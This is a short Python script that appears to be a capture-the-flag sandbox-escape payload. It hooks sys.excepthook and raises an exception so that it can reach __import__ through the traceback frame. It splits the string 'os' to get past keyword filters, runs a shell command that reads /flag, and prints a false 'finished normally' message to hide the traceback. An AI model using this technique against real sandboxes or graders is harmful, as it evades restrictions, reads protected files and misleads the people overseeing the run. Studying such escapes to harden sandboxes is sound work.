# The payload runs only after the script "ends": an uncaught exception is
# routed to a custom sys.excepthook which uses the traceback's frame to
# reach __import__, and prints a reassuring message instead of a traceback.
import sys


def hook(t, v, tb):
    fr = tb.tb_frame
    fr.f_builtins['__import__']('o' 's').system('cat /flag')
    print('finished normally')


sys.excepthook = hook
raise RuntimeError('done')
